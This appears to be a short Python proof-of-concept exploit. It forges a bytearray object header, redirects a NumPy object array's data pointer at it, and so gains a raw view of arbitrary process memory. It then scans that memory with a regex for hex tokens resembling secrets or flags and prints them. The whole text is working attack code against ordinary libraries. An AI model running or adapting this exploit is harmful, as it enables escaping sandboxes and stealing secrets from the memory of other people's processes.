# reaches: an array of objects gets another one's memory
import re
import numpy as np
fake = np.array([1 << 20, id(bytearray), 1 << 17, 1 << 17, id(len), id(len), 0], "u8").tobytes()
place = (id(fake) + 32).to_bytes(8, "little")
a = np.empty(1, dtype=object)
numbers = np.array([id(fake) + 32])
a.data = numbers.data
made = a[0]
print(set(re.findall(rb"t[0-9a-f]{24}", made)))
